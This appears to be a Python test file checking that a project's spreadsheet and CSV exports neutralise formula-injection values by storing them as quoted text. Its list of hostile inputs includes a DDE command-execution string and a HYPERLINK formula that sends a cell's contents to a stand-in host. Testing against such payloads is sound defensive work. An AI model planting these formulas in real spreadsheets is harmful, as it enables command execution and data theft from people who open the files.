"""Exports are safe to open: a hostile value is kept as text, never becomes a formula."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from appraisal.spreadsheets import csv_row, workbook_bytes

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&E4,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_cell_is_saved_as_text_exactly_as_typed(value):
    workbook = Workbook()
    workbook.active.append(["姓名", value, 42, "农安县"])
    opened = load_workbook(io.BytesIO(workbook_bytes(workbook)))
    cells = list(opened.active.iter_rows(values_only=False))[0]
    assert [cell.data_type for cell in cells] == ["s", "s", "n", "s"]
    assert cells[1].value == value.replace("\r", "\n")  # XML reads a carriage return back as a newline
    assert cells[1].quotePrefix  # Excel keeps it text even after the cell is edited


def test_ordinary_values_are_left_alone():
    workbook = Workbook()
    workbook.active.append(["王考生", "220122199003150019", "13800000000", 3.5])
    opened = load_workbook(io.BytesIO(workbook_bytes(workbook)))
    cells = list(opened.active.iter_rows())[0]
    assert not any(cell.quotePrefix for cell in cells)
    assert [cell.value for cell in cells] == ["王考生", "220122199003150019", "13800000000", 3.5]


def test_csv_cells_get_an_apostrophe_before_a_formula_trigger():
    assert csv_row(["=1+1", "@x", "王", 5, "-", "a=b"]) == ["'=1+1", "'@x", "王", 5, "'-", "a=b"]
